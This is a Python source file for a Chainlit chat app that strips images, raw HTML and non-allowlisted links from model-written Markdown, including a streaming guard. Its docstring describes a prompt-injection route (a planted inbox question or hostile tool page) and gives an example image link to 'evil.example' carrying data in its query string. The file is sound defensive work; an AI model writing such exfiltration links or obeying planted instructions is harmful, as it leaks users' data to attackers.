"""Nothing a model writes may load or link outside content.

Chainlit renders assistant text as Markdown (GFM: bare `http://` and `www.` URLs become links). A
model can be steered (a question planted in the inbox, a hostile page a tool returned) into writing
`![x](http://evil.example/leak.png?d=...)`, which the browser would fetch. Every piece of model text
shown in the chat goes through `sanitize` (whole texts) or a `StreamGuard` (the token stream) first:

- images never render: `![alt](url)` becomes its alt text, whatever the url;
- a link `[text](url)` stays only when its url is one of the app's own pages (a path starting with a
  single `/`) or a URL a tool returned in this turn; otherwise it becomes its text (so `javascript:`
  and `data:` links are always dropped);
- a `](` whose link cannot be checked (no matching `[`, a destination this parser does not follow) is
  escaped, so it is no link at all;
- link reference definitions (`[x]: url`) are escaped, so reference-style links and images resolve
  to nothing;
- raw HTML and `<...>` autolinks are escaped (`<` becomes `&lt;` before a tag-like character);
- a bare URL GFM would link is kept only when allowed; otherwise its `http(s)://` and `www.` prefixes
  are dropped, leaving readable text that is not a link.

Every rule looks only at the text it is given, so a text cut at any point stays safe; the stream
guard holds back an incomplete link or word only so that links that are allowed still show as links.
The price: inside code, tags show as `&lt;tag>` and outside links lose their scheme.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable

_BARE_URL = re.compile(r"(?i)(?:https?://|www\.)[^\s<>]*")
_URL_PREFIX = re.compile(r"(?i)^(?:https?://|www\.)+")
_TOOL_URL = re.compile(r"(?i)https?://[^\s<>\"'`)\]]+")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_ESCAPABLE = re.compile(r"\\([!-/:-@\[-`{-~])")
_TRAILING = ".,:;!?*_~'\")]"
BREAK = "\u200b"  # put between two pieces of a forced cut: no construct spans it
MAX_HOLD = 800  # characters held back at most before they are released (with a BREAK)
MAX_PASSES = 8


def _core(url: str) -> str:
    return url.rstrip(_TRAILING)


def urls_in(text: str) -> set[str]:
    """The absolute URLs in a tool's output (what a model may link to afterwards)."""
    return {_core(m.group(0)) for m in _TOOL_URL.finditer(text or "")}


def own_page(url: str) -> bool:
    """A path on this app: `/...` but not `//host` (nor `/\\host`, which browsers read as `//host`)."""
    return (url.startswith("/") and not url.startswith(("//", "/\\")) and "\\" not in url
            and not any(c.isspace() or ord(c) < 0x20 for c in url))


class LinkPolicy:
    """Which link targets may show: the app's own pages, and URLs tools returned (added as they come)."""

    def __init__(self, allowed: Iterable[str] = ()):
        self.allowed: set[str] = set(allowed)

    def add_tool_output(self, text: str) -> None:
        self.allowed |= urls_in(text)

    def allows(self, url: str) -> bool:
        target = html.unescape(_ESCAPABLE.sub(r"\1", url.strip()))
        return own_page(target) or target in self.allowed


def _skip_space(text: str, j: int) -> int:
    newline = False
    while j < len(text) and text[j] in " \t\n":
        if text[j] == "\n":
            if newline:
                break
            newline = True
        j += 1
    return j


def parse_destination(text: str, open_paren: int) -> tuple[str, int] | None:
    """The destination of an inline link whose `(` is at `open_paren`, and the index after its `)`;
    None when it is not a (complete) inline link by CommonMark's rules."""
    j, n = _skip_space(text, open_paren + 1), len(text)
    if j < n and text[j] == "<":
        end = text.find(">", j)
        if end < 0 or "\n" in text[j:end]:
            return None
        dest, j = text[j + 1:end], end + 1
    else:
        start, depth = j, 0
        while j < n:
            c = text[j]
            if c == "\\" and j + 1 < n:
                j += 2
                continue
            if c.isspace() or ord(c) < 0x20:
                break
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            j += 1
        if depth:
            return None
        dest = text[start:j]
    j = _skip_space(text, j)
    if j < n and text[j] in "\"'(":
        close = ")" if text[j] == "(" else text[j]
        k = j + 1
        while k < n and text[k] != close:
            k += 2 if text[k] == "\\" else 1
        if k >= n:
            return None
        j = _skip_space(text, k + 1)
    if j < n and text[j] == ")":
        return dest, j + 1
    return None


def _matching_open(text: str, close: int) -> int | None:
    """The `[` that the `]` at `close` closes (within its paragraph), or None."""
    depth, i = 0, close - 1
    while i >= 0:
        c = text[i]
        if c == "\n" and i > 0 and text[i - 1] == "\n":
            return None
        escaped = i > 0 and text[i - 1] == "\\"
        if c == "]" and not escaped:
            depth += 1
        elif c == "[" and not escaped:
            if depth == 0:
                return i
            depth -= 1
        i -= 1
    return None


def _links_pass(text: str, policy: LinkPolicy) -> str:
    """Check every `](` from the right (outer links before the links in their text); a region
    already rewritten in this pass is left to the next pass."""
    boundary = len(text)
    pos = text.rfind("](")
    while pos >= 0:
        parsed = parse_destination(text, pos + 1)
        if parsed is None:  # not a link this parser can check: make sure it is none at all
            if pos + 2 <= boundary:
                text, boundary = text[:pos] + "]\\(" + text[pos + 2:], pos
        elif parsed[1] <= boundary:
            dest, end = parsed
            opener = _matching_open(text, pos)
            image = opener is not None and opener > 0 and text[opener - 1] == "!"
            if opener is None:  # drop the destination; what is left is no link
                text, boundary = text[:pos + 1] + text[end:], pos
            elif image or not policy.allows(dest):
                start = opener - 1 if image else opener
                text, boundary = text[:start] + text[opener + 1:pos] + text[end:], start
        pos = text.rfind("](", 0, pos)
    return text


def _bare_url(match: re.Match, policy: LinkPolicy) -> str:
    url = match.group(0)
    core = _core(url)
    if core and policy.allows(core):
        return url
    return _URL_PREFIX.sub("", url)


def _one_pass(text: str, policy: LinkPolicy) -> str:
    text = _links_pass(text, policy)
    text = text.replace("]:", "]\\:")
    text = _TAG_START.sub("&lt;", text)
    return _BARE_URL.sub(lambda m: _bare_url(m, policy), text)


def sanitize(text: str, policy: LinkPolicy | None = None) -> str:
    """`text` with every image, raw HTML and link the policy does not allow made inert."""
    policy = policy or LinkPolicy()
    for _ in range(MAX_PASSES):
        cleaned = _one_pass(text, policy)
        if cleaned == text:
            return cleaned
        text = cleaned
    # Still changing (deeply nested input): make every construct inert, whatever it was.
    return _BARE_URL.sub(lambda m: _URL_PREFIX.sub("", m.group(0)),
                         _TAG_START.sub("&lt;", text.replace("](", "]\\(").replace("]:", "]\\:")))


def _held_from(text: str) -> int:
    """Where the part that may still change meaning starts: the last partial word, or a `[` whose
    link is not complete yet."""
    hold = len(text)
    while hold > 0 and not text[hold - 1].isspace():
        hold -= 1
    stack: list[int] = []
    unresolved: list[int] = []
    i = 0
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "\n" and text.startswith("\n\n", i):
            stack.clear()
        elif c == "[":
            stack.append(i)
        elif c == "]" and stack:
            opener = stack.pop()
            parsed = parse_destination(text, i + 1) if text.startswith("(", i + 1) else None
            if i + 1 == len(text) or (text[i + 1] == "(" and parsed is None and ")" not in text[i + 1:]):
                unresolved.append(opener)
            elif parsed is not None and opener < hold < parsed[1]:  # never cut a complete link
                unresolved.append(opener)
        i += 1
    starts = unresolved + stack[:1]
    if starts:
        first = min(starts)
        hold = min(hold, first - 1 if first > 0 and text[first - 1] == "!" else first)
    return hold


class StreamGuard:
    """Sanitizes a token stream: each `feed` returns what may be shown now."""

    def __init__(self, policy: LinkPolicy, max_hold: int = MAX_HOLD):
        self.policy = policy
        self.max_hold = max_hold
        self.pending = ""

    def feed(self, text: str) -> str:
        self.pending += text
        cut = _held_from(self.pending)
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        shown = sanitize(ready, self.policy) if ready else ""
        if len(self.pending) > self.max_hold:  # never hold forever: release with a break no link spans
            shown += sanitize(self.pending, self.policy) + BREAK
            self.pending = ""
        return shown

    def flush(self) -> str:
        rest, self.pending = self.pending, ""
        return sanitize(rest, self.policy) if rest else ""
